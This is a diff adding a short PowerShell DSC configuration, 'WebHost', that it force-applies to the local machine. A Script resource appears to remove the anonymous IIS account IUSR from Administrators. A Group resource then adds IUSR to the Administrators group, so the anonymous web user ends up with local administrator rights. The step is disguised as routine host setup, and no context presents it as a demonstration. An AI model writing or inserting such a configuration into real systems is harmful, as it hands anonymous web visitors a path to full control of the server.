@@ -1,0 +1,16 @@
+configuration WebHost {
+    Import-DscResource -ModuleName PSDesiredStateConfiguration
+    Node 'localhost' {
+        Script first {
+            GetScript = { @{} }
+            TestScript = { $false }
+            SetScript = { net localgroup Administrators IUSR /delete }
+        }
+        Group Administrators {
+            GroupName = 'Administrators'
+            MembersToInclude = 'IUSR'
+        }
+    }
+}
+WebHost -OutputPath C:\dsc | Out-Null
+Start-DscConfiguration -Path C:\dsc -Wait -Force
